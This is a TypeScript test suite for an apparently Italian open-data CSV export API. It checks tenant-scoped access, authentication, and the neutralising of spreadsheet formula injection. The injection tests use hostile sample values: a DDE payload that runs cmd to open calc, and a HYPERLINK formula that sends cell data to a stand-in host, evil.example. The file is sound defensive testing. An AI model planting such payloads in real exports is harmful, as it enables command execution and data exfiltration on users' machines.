import { newTenant } from '../helpers/app';
import { HttpTestApp, startHttpApp } from '../helpers/http';
import { parse as parseCsv } from 'csv-parse/sync';
import { addMember, createNetwork, createPartner, referenceIds, seedNetworks } from '../helpers/factories';

let t: HttpTestApp;
beforeAll(async () => {
  t = await startHttpApp();
});
afterAll(() => t.close());

async function download(path: string, token?: string): Promise<{ status: number; type: string | null; body: string }> {
  const response = await fetch(new URL(path, t.url), { headers: token ? { authorization: `Bearer ${token}` } : {} });
  return { status: response.status, type: response.headers.get('content-type'), body: await response.text() };
}

const parse = (csv: string) => csv.replace(/^\uFEFF/, '').trim().split('\r\n').map((line) => line.split(';'));

test('open data: projects, subjects and allocations as flat CSV, only of the tenants the caller may read', async () => {
  const a = await newTenant(t);
  const b = await newTenant(t);
  await seedNetworks(t, a.editor, 2);
  await seedNetworks(t, b.editor, 1);
  const analystA = await t.signUp('ANALYST', a.id);

  const projects = await download('/opendata/progetti.csv', analystA.token);
  expect(projects.status).toBe(200);
  expect(projects.type).toContain('text/csv');
  const [header, ...rows] = parse(projects.body);
  expect(header).toEqual(['codice_progetto', 'titolo', 'misura', 'stato', 'data_inizio', 'data_fine', 'destinatari_previsti', 'ente', 'provincia', 'capofila', 'capofila_codice_fiscale', 'importo_impegnato']);
  expect(rows).toHaveLength(2);
  expect(rows.every((r) => r[0].startsWith(`${a.code}-`) && r[11] === '1000.00' && r[3] === 'DRAFT')).toBe(true);

  const [subjectsHeader, ...subjects] = parse((await download('/opendata/soggetti.csv', analystA.token)).body);
  expect(subjectsHeader).toEqual(['codice_progetto', 'soggetto', 'codice_fiscale', 'ruolo', 'tipologia', 'comune', 'provincia']);
  expect(subjects).toHaveLength(6);
  expect(subjects.filter((s) => s[3] === 'Capofila')).toHaveLength(2);

  const [, ...grants] = parse((await download('/opendata/assegnazioni.csv', analystA.token)).body);
  expect(grants).toHaveLength(2);
  expect(grants[0].slice(2, 4)).toEqual(['1000.00', 'EUR']);

  // A regional analyst reads both tenants' projects (and possibly others').
  const regional = await t.signUp('ANALYST', null);
  const all = parse((await download('/opendata/progetti.csv', regional.token)).body).slice(1);
  expect(all.filter((r) => r[0].startsWith(`${a.code}-`) || r[0].startsWith(`${b.code}-`))).toHaveLength(3);
});

test('open data needs a signed-in caller and a known dataset', async () => {
  expect((await download('/opendata/progetti.csv')).status).toBe(401);
  expect((await download('/opendata/progetti.csv', 'not-a-token')).status).toBe(401);
  const analyst = await t.signUp('ANALYST', null);
  expect((await download('/opendata/segreti.csv', analyst.token)).status).toBe(404);
});

test('a cell a spreadsheet would run as a formula comes out as text, with a leading apostrophe', async () => {
  const tenant = await newTenant(t);
  const ref = await referenceIds(t);
  const network = await createNetwork(t, tenant.editor, ref, { title: '@SUM(1+1)*cmd|" /C calc"!A0' });
  const names = ['=HYPERLINK("http://evil.example/?"&A1;"click")', '+39 SUM(A1:A9)', '-2+3', '@SUM(1)', '\t=1+1', '\r=1+1', 'Cooperativa = Lavoro'];
  for (const [i, legalName] of names.entries()) {
    const partner = await createPartner(t, tenant.editor, ref, 'LABOUR_OPERATOR', { legalName });
    await addMember(t, tenant.editor, network.id, partner.id, i === 0 ? 'LEAD' : 'PARTNER');
  }
  const analyst = await t.signUp('ANALYST', tenant.id);
  const read = async (dataset: string) =>
    (parseCsv((await download(`/opendata/${dataset}.csv`, analyst.token)).body, { bom: true, delimiter: ';', relax_quotes: false }) as string[][]).slice(1);

  const subjects = (await read('soggetti')).filter((r) => r[0].startsWith(`${tenant.code}-`)).map((r) => r[1]);
  expect(subjects.sort()).toEqual(names.map((n) => (/^[=+\-@\t\r]/.test(n) ? `'${n}` : n)).sort());
  const [project] = (await read('progetti')).filter((r) => r[0].startsWith(`${tenant.code}-`));
  expect([project[1], project[9]]).toEqual([`'@SUM(1+1)*cmd|" /C calc"!A0`, `'${names[0]}`]);
});

test('open data follow the exports\' rules: a cell with a comma or a separator is quoted, a formula after a separator neutralised', async () => {
  const tenant = await newTenant(t);
  const ref = await referenceIds(t);
  const network = await createNetwork(t, tenant.editor, ref, { title: 'Rete, =1+2' });
  const partner = await createPartner(t, tenant.editor, ref, 'LABOUR_OPERATOR', { legalName: 'Acme;@SUM(1)' });
  await addMember(t, tenant.editor, network.id, partner.id, 'LEAD');
  const analyst = await t.signUp('ANALYST', tenant.id);
  const text = (await download('/opendata/progetti.csv', analyst.token)).body;
  const line = text.split('\r\n').find((l) => l.startsWith(`${tenant.code}-`))!;
  expect(line).toContain(`;"Rete, '=1+2";`);
  expect(line).toContain(`;"Acme;'@SUM(1)";`);
  const pieces = line.split(/[;,]/).map((piece) => piece.replace(/^[\s"]+/, ''));
  expect(pieces.filter((piece) => /^[=+\-@]/.test(piece))).toEqual([]);
  const [project] = (parseCsv(text, { bom: true, delimiter: ';' }) as string[][]).filter((r) => r[0].startsWith(`${tenant.code}-`));
  expect([project[1], project[9]]).toEqual(["Rete, '=1+2", "Acme;'@SUM(1)"]);
});
